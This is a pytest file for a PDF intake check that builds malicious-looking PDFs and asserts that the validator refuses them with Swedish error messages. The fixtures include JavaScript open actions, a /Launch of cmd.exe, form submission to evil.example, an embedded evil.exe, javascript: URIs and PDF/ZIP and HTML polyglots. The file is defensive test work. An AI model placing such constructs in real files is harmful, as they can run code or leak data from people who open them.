"""R09 for PDF: strict parse, no encryption, no active content, a sane page count."""

from __future__ import annotations

import re

import pikepdf
import pytest

from tests import intake_fixtures as fx
from tui_app.core.limits import MAX_PDF_PAGES
from tui_app.intake import Verdict
from tui_app.intake import reasons as r


def _annot(p: pikepdf.Pdf, action: pikepdf.Dictionary, subtype: str = "/Link") -> None:
    annot = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name(subtype),
                               Rect=[0, 0, 100, 100], A=action)
    p.pages[0].Annots = p.make_indirect(pikepdf.Array([p.make_indirect(annot)]))


def _action(s: str, **kw: object) -> pikepdf.Dictionary:
    return pikepdf.Dictionary(S=pikepdf.Name(s), **kw)


def open_action_js(p: pikepdf.Pdf) -> None:
    p.Root.OpenAction = p.make_indirect(_action("/JavaScript", JS=pikepdf.String("app.alert(1)")))


def names_js(p: pikepdf.Pdf) -> None:
    js = p.make_indirect(_action("/JavaScript", JS=pikepdf.String("this.print()")))
    p.Root.Names = pikepdf.Dictionary(
        JavaScript=pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("a"), js])))


def launch(p: pikepdf.Pdf) -> None:
    _annot(p, _action("/Launch", F=pikepdf.String("cmd.exe")))


def submit(p: pikepdf.Pdf) -> None:
    _annot(p, _action("/SubmitForm", F=pikepdf.String("https://evil.example/")))


def gotor(p: pikepdf.Pdf) -> None:
    _annot(p, _action("/GoToR", F=pikepdf.String("other.pdf"), D=pikepdf.Array([0, "/Fit"])))


def next_chain_js(p: pikepdf.Pdf) -> None:
    _annot(p, _action("/URI", URI=pikepdf.String("https://1177.se"),
                      Next=_action("/JavaScript", JS=pikepdf.String("1"))))


def page_aa(p: pikepdf.Pdf) -> None:
    p.pages[0].AA = pikepdf.Dictionary(O=_action("/URI", URI=pikepdf.String("https://1177.se")))


def open_action_uri(p: pikepdf.Pdf) -> None:
    p.Root.OpenAction = _action("/URI", URI=pikepdf.String("https://evil.example"))


def embedded(p: pikepdf.Pdf) -> None:
    p.attachments["evil.exe"] = pikepdf.AttachedFileSpec(p, fx.MZ, filename="evil.exe")


def xfa(p: pikepdf.Pdf) -> None:
    p.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array(), XFA=pikepdf.String("<xdp/>"))


def rich_media(p: pikepdf.Pdf) -> None:
    annot = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.RichMedia,
                               Rect=[0, 0, 10, 10])
    p.pages[0].Annots = pikepdf.Array([p.make_indirect(annot)])


def jbig2(p: pikepdf.Pdf) -> None:
    img = pikepdf.Stream(p, b"\x00" * 16, Type=pikepdf.Name.XObject, Subtype=pikepdf.Name.Image,
                         Width=8, Height=8, BitsPerComponent=1, ColorSpace=pikepdf.Name.DeviceGray,
                         Filter=pikepdf.Name.JBIG2Decode)
    p.pages[0].Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(Im0=img))


def uri_link(p: pikepdf.Pdf) -> None:
    _annot(p, _action("/URI", URI=pikepdf.String("https://www.1177.se/")))


def goto_open(p: pikepdf.Pdf) -> None:
    p.Root.OpenAction = pikepdf.Array([p.pages[0].obj, pikepdf.Name.Fit])


def plain_form(p: pikepdf.Pdf) -> None:
    field = p.make_indirect(pikepdf.Dictionary(FT=pikepdf.Name.Tx, T=pikepdf.String("namn"),
                                               V=pikepdf.String("Anna")))
    p.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([field]))


def _raw_pdf() -> bytes:
    return fx.pdf(compress_streams=False, object_stream_mode=pikepdf.ObjectStreamMode.disable)


RAW = _raw_pdf()
_i = RAW.rfind(b"startxref")
BAD_XREF = RAW[:_i] + re.sub(rb"startxref\s+\d+", b"startxref\n10", RAW[_i:])
BAD_LENGTH = RAW.replace(b"<< /Length 0 >>", b"<< /Length 9 >>")

REFUSED: dict[str, tuple[bytes, str]] = {
    "open-action-js.pdf": (fx.pdf(build=open_action_js), r.WHAT_JS),
    "names-js.pdf": (fx.pdf(build=names_js), r.WHAT_JS),
    "unreferenced-js.pdf": (fx.raw_pdf(b"<< /S /JavaScript /JS (app.alert(1)) >>"), r.WHAT_JS),
    "hidden-launch.pdf": (fx.raw_pdf(b"<< /Foo << /Bar [ << /S /Launch /F (x.exe) >> ] >> >>"),
                          r.WHAT_LAUNCH),
    "launch.pdf": (fx.pdf(build=launch), r.WHAT_LAUNCH),
    "submit.pdf": (fx.pdf(build=submit), r.WHAT_SUBMIT),
    "gotor.pdf": (fx.pdf(build=gotor), r.WHAT_REMOTE),
    "javascript-uri.pdf": (fx.raw_pdf(b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] "
                                      b"/A << /S /URI /URI (javascript:alert(1)) >> >>", pad=1100),
                           r.WHAT_REMOTE),
    "javascript-uri-early.pdf": (fx.raw_pdf(b"<< /S /URI /URI (javascript:alert(1)) >>"),
                                 r.WHAT_WEB),
    "next-chain-js.pdf": (fx.pdf(build=next_chain_js), r.WHAT_JS),
    "page-aa.pdf": (fx.pdf(build=page_aa), r.WHAT_AUTO),
    "open-action-uri.pdf": (fx.pdf(build=open_action_uri), r.WHAT_AUTO),
    "embedded.pdf": (fx.pdf(build=embedded), r.WHAT_EMBEDDED),
    "xfa.pdf": (fx.pdf(build=xfa), r.WHAT_XFA),
    "rich-media.pdf": (fx.pdf(build=rich_media), r.WHAT_MEDIA),
    "jbig2.pdf": (fx.pdf(build=jbig2), "JBIG2"),
    "encrypted.pdf": (fx.pdf(encryption=pikepdf.Encryption(owner="o", user="hemligt")),
                      "lösenordsskyddad"),
    "owner-locked.pdf": (fx.pdf(encryption=pikepdf.Encryption(owner="o", user="")),
                         "lösenordsskyddad"),
    "junk-before.pdf": (b"<html>junk</html>\n" + fx.pdf(), "okänd data före"),
    "zero-pages.pdf": (fx.pdf(pages=0), "inga sidor"),
    "too-many-pages.pdf": (fx.pdf(pages=MAX_PDF_PAGES + 1), f"{MAX_PDF_PAGES + 1} sidor"),
    "truncated.pdf": (RAW[:-60], r.DAMAGED),
    "bad-xref.pdf": (BAD_XREF, r.DAMAGED),
    "bad-length.pdf": (BAD_LENGTH, r.DAMAGED),
    "trailing-junk.pdf": (fx.pdf() + b"junk after the end", "extra data efter slutet av PDF"),
    "pdf-zip.pdf": (fx.pdf() + fx.zip_bytes(), "dold ZIP-fil"),
    "pdf-html-head.pdf": (b"%PDF-1.4\n%<html><script>alert(1)</script>\n" + RAW[9:], "webbkod"),
}

ACCEPTED: dict[str, bytes] = {
    "plain.pdf": fx.pdf(),
    f"max-pages-{MAX_PDF_PAGES}.pdf": fx.pdf(pages=MAX_PDF_PAGES),
    "uri-link.pdf": fx.pdf(build=uri_link),
    "open-at-page-one.pdf": fx.pdf(build=goto_open),
    "form.pdf": fx.pdf(build=plain_form),
    "object-streams.pdf": fx.pdf(pages=3, object_stream_mode=pikepdf.ObjectStreamMode.generate),
    "uncompressed.pdf": RAW,
    "hand-written.pdf": fx.raw_pdf(pad=2000),
}


def _reportlab_pdf() -> bytes:
    import io

    from reportlab.pdfgen import canvas

    out = io.BytesIO()
    c = canvas.Canvas(out)
    c.drawString(72, 720, "Remiss: hudutslag, höger underarm")
    c.linkURL("https://www.1177.se", (72, 600, 200, 620))
    c.showPage()
    c.save()
    return out.getvalue()


ACCEPTED["reportlab.pdf"] = _reportlab_pdf()


@pytest.fixture(scope="module")
def verdicts(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Verdict]:
    files = {name: data for name, (data, _) in REFUSED.items()} | ACCEPTED
    return fx.check_files(tmp_path_factory.mktemp("pdf"), files)  # type: ignore[return-value]


@pytest.mark.parametrize("name", REFUSED)
def test_r09_refuses_pdf(verdicts: dict[str, Verdict], name: str) -> None:
    v = verdicts[name]
    assert not v.accepted
    assert REFUSED[name][1] in (v.reason or ""), v.reason


@pytest.mark.parametrize("name", ACCEPTED)
def test_r09_accepts_pdf(verdicts: dict[str, Verdict], name: str) -> None:
    v = verdicts[name]
    assert v.accepted, v.reason
    assert v.mime == "application/pdf" and v.pages


def test_r09_refuses_pdf_with_javascript_and_says_to_print_to_pdf(
        verdicts: dict[str, Verdict]) -> None:
    reason = verdicts["open-action-js.pdf"].reason or ""
    assert reason.startswith("PDF-filen innehåller JavaScript")
    assert "Skriv ut som PDF" in reason


def test_r09_refuses_encrypted_pdf_with_clear_wording(verdicts: dict[str, Verdict]) -> None:
    assert (verdicts["encrypted.pdf"].reason or "").startswith("Filen är lösenordsskyddad")
